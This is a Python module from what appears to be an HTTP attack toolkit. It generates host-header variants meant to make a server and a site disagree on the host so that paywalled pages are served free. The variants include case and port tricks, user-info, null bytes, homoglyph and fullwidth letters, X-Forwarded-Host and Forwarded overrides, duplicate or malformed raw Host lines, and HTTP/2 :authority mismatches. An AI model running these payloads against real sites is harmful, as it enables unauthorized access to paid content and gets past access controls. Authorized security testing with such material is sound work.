"""Other spellings of the host.

Where a page is priced under one host and the rest of the server is free, a request that the server takes for another host,
and the site for this one, is free. Hosts are said in `Host`, `:authority`, the target and several headers of proxies, with
ports, dots, user names, capitals and letters of other alphabets.
"""

from collections.abc import Iterator
from functools import partial

from attacks.targets import frames
from core import http2
from core.attack import Attack, Need, Try
from core.scene import Scene
from core.target import WAYS, Way

HEADERS = [b"X-Forwarded-Host", b"X-Host", b"X-Original-Host", b"X-Forwarded-Server", b"X-HTTP-Host-Override", b"Forwarded",
           b"X_Forwarded_Host", b"X.Forwarded.Host", b"Host_", b"X-Forwarded-Host\0"]  # fmt: skip
OTHER = b"other.example"


def tries(scene: Scene) -> Iterator[Try]:
    path, host = scene.target.path, scene.target.host.rpartition(b"@")[2]
    for way in WAYS:
        for spelled in spellings(host):
            yield scene.unpaid(f"{way.value} the host {spelled!r}", way, path, host=spelled)
            yield scene.unpaid(f"{way.value} the host {spelled!r} in the target", way, b"http://" + spelled + path, host=OTHER)
            yield scene.unpaid(f"{way.value} a target of another host, {spelled!r}", way, b"http://" + OTHER + path, host=spelled)
        for name in HEADERS:
            for value in (
                host,
                b"host=" + host,
                b"for=1.2.3.4;host=" + host,
                b'for="[::1]";HOST="' + host + b'"',
                host + b", x",
                b"x, " + host,
            ):
                yield scene.unpaid(f"{way.value} {name!r}: {value!r}", way, path, host=OTHER, headers=[(name, value)])
        yield scene.unpaid(f"{way.value} two of them", way, path, host=OTHER, headers=[(b"Host", host)])
        yield scene.unpaid(f"{way.value} two of them, the other last", way, path, host=host, headers=[(b"Host", OTHER)])
    for line in (b"Host: %s\r\n %s\r\n", b"Host: %s\r\nHost : %s\r\n", b"Host: %s\r\n Host: %s\r\n", b"Host: %s\nHost: %s\r\n", b"Host: %s\rHost: %s\r\n",
                 b"Host: %s,%s\r\n", b"Host: %s %s\r\n", b"Host: %s\0%s\r\n", b"Host: %s@%s\r\n", b"Host: %s#@%s\r\n", b"Host: %s/@%s\r\n", b"Host: %s:80@%s\r\n"):  # fmt: skip
        for first, second in ((OTHER, host), (host, OTHER)):
            head = b"GET %s HTTP/1.1\r\n" % path + line % (first, second) + b"X-Try: {mark}\r\nConnection: close\r\n\r\n"
            yield scene.raw(f"the lines {line!r} of {first!r} and {second!r}", head, b"GET")
    for way in (Way.H2, Way.H2C):
        for authority, named in (
            (OTHER, host),
            (host, OTHER),
            (b"", host),
            (None, host),
            (OTHER, host.upper()),
            (OTHER + b"," + host, host),
        ):
            mark = scene.mark()
            fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", path), (b"host", named), (b"x-try", mark)]
            if authority is not None:
                fields.insert(1, (b":authority", authority))
            run = partial(frames, scene, way, http2.start() + http2.headers(fields), mark)
            yield Try(f"{way.value} :authority {authority!r}, host {named!r}", run, (Need.SECRET, *scene.target.needs(way)))


def spellings(host: bytes) -> list[bytes]:
    """A host as it is also written, or as some servers read it."""
    name = host.partition(b":")[0]
    wide = "".join(chr(letter + 0xFEE0) if 0x21 <= letter <= 0x7E else chr(letter) for letter in name).encode()
    found = [host, name, name.upper(), name.title(), name.swapcase(), name + b".", name + b"..", name + b":80", name + b":443", name + b":", name + b":0",
             name + b":65536", name + b":80:80", name + b":x", name + b".:80", b"x@" + name, b"x:y@" + name, name + b"@x", b"@" + name, name + b"/", name + b"/x",
             name + b"?", name + b"#", name + b"\\", name + b" ", b" " + name, b"\t" + name, name + b"\t", name + b"\0", name + b"%00", name + b"%2e", name + b";x",
             name + b",", b"," + name, name + b"," + name, name + b" " + name, b"[" + name + b"]", b'"' + name + b'"', b"http://" + name, b"//" + name, wide,
             name.replace(b".", b"%2e"), name.replace(b".", "。".encode()), name.replace(b".", "．".encode()), name.replace(b"e", b"%65"), name.replace(b"a", "ａ".encode()),
             name.replace(b"l", "ⅼ".encode()), name.replace(b".", b".."), b"." + name, b"www." + name, name + b".example", name.replace(b".", b"_"),
             name + b"\xc2\xad", name.replace(b"v", "ｖ".encode()), name + "\u200d".encode(), b"*", b"", OTHER]  # fmt: skip
    return list(dict.fromkeys(found))


ATTACK = Attack("hosts", 5, "spellings of the host, and headers that name another", tries, origins=frozenset({"plain", "host"}))
